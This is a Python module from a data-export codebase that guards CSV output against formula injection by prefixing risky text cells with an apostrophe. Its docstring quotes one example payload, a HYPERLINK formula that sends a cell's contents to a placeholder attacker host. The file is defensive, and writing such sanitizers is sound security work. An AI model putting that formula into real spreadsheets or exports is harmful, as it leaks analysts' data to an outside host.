"""CSV cells that a spreadsheet cannot run: the one helper every CSV writer of the warehouse uses.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (CSV/formula injection, OWASP): an entity or
service name like ``=HYPERLINK("http://evil.example/?"&A1)`` would run on the analyst's machine.
:func:`safe_cell` prefixes such text with ``'`` (shown as text, the way spreadsheets mark it).
Numbers stay numbers: ints and floats, and text that is a plain number (``-0.25``, ``+3``, ``1e-3``,
what the exports' number formatting writes), pass unchanged.
"""
from __future__ import annotations

import csv
import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """``value``, or ``"'" + value`` for text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, out, **kwargs):
        self._w = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> _SafeWriter:
    """A CSV writer (same arguments as :func:`csv.writer`) whose cells are neutralized."""
    return _SafeWriter(out, **kwargs)


def fmt_value(v) -> str:
    """A value as an export's CSV cell: "" for missing (None, NA, NaN, ±inf), floats rounded to 4 places."""
    import math

    import pandas as pd

    if v is None or v is pd.NA or (isinstance(v, float) and not math.isfinite(v)):
        return ""
    if isinstance(v, float):
        return repr(round(v, 4))
    return str(v)
